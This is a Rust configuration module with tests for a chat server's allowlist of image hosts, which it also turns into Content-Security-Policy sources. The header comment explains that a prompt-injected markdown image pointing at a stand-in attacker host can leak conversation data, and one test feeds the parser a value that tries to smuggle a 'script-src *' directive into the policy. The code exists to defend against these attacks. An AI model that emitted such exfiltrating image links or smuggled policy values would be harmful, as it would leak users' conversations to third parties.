//! `ALLOWED_IMAGE_HOSTS` (ours): the hosts whose images a rendered message (and the page) may
//! load, besides this server. None by default: an image in an answer is a request the browser
//! makes on its own, and its URL can carry the conversation to whoever runs that host (a
//! prompt-injected `![x](https://evil.example/?q=secret)`). LibreChat loads them from anywhere.

use serde::Serialize;

use super::{ConfigError, Env};

/// Allowed image hosts: exact names (`images.example.com`) or every name below one
/// (`*.example.com`), lower case, loaded over https only.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ImageHosts {
    hosts: Vec<String>,
}

impl ImageHosts {
    pub fn from_env(env: &Env) -> Result<Self, ConfigError> {
        let mut hosts = Vec::new();
        for entry in env.get("ALLOWED_IMAGE_HOSTS").unwrap_or("").split(',') {
            let entry = entry.trim().to_ascii_lowercase();
            if entry.is_empty() {
                continue;
            }
            let name = entry.strip_prefix("*.").unwrap_or(&entry);
            let valid = !name.is_empty()
                && name.len() <= 253
                && name.split('.').all(|label| {
                    !label.is_empty()
                        && label.len() <= 63
                        && label
                            .bytes()
                            .all(|b| b.is_ascii_alphanumeric() || b == b'-')
                });
            if !valid {
                return Err(ConfigError::invalid(
                    "ALLOWED_IMAGE_HOSTS",
                    &entry,
                    "host names such as images.example.com or *.example.com, comma-separated",
                ));
            }
            hosts.push(entry);
        }
        Ok(Self { hosts })
    }

    /// Hosts from a list (tests, and callers that build settings by hand).
    pub fn of<'a>(hosts: impl IntoIterator<Item = &'a str>) -> Self {
        Self {
            hosts: hosts.into_iter().map(str::to_ascii_lowercase).collect(),
        }
    }

    /// Whether an https image from `host` may be shown.
    pub fn allows(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        self.hosts.iter().any(|h| match h.strip_prefix("*.") {
            Some(parent) => host
                .strip_suffix(parent)
                .is_some_and(|sub| sub.len() > 1 && sub.ends_with('.')),
            None => *h == host,
        })
    }

    /// The hosts as Content-Security-Policy sources (`https://images.example.com`).
    pub fn csp_sources(&self) -> impl Iterator<Item = String> + '_ {
        self.hosts.iter().map(|h| format!("https://{h}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(value: &str) -> Result<ImageHosts, ConfigError> {
        ImageHosts::from_env(&Env::from_pairs(vec![(
            "ALLOWED_IMAGE_HOSTS".to_string(),
            value.to_string(),
        )]))
    }

    #[test]
    fn exact_hosts_and_subdomains() {
        let h = hosts(" Images.Example.com, *.cdn.example.org ,").unwrap();
        assert!(h.allows("images.example.com"));
        assert!(h.allows("IMAGES.example.com."));
        assert!(!h.allows("evil.images.example.com"));
        assert!(!h.allows("example.com"));
        assert!(h.allows("a.cdn.example.org"));
        assert!(h.allows("a.b.cdn.example.org"));
        assert!(
            !h.allows("cdn.example.org"),
            "the wildcard is for names below it"
        );
        assert!(!h.allows("evilcdn.example.org"));
        assert_eq!(
            h.csp_sources().collect::<Vec<_>>(),
            ["https://images.example.com", "https://*.cdn.example.org"]
        );
        assert_eq!(hosts("").unwrap(), ImageHosts::default());
    }

    #[test]
    fn anything_else_is_refused() {
        for bad in [
            "https://x.com",
            "x.com/path",
            "*",
            "*.",
            "a b.com",
            "x.com;script-src *",
        ] {
            assert!(hosts(bad).is_err(), "{bad}");
        }
    }
}
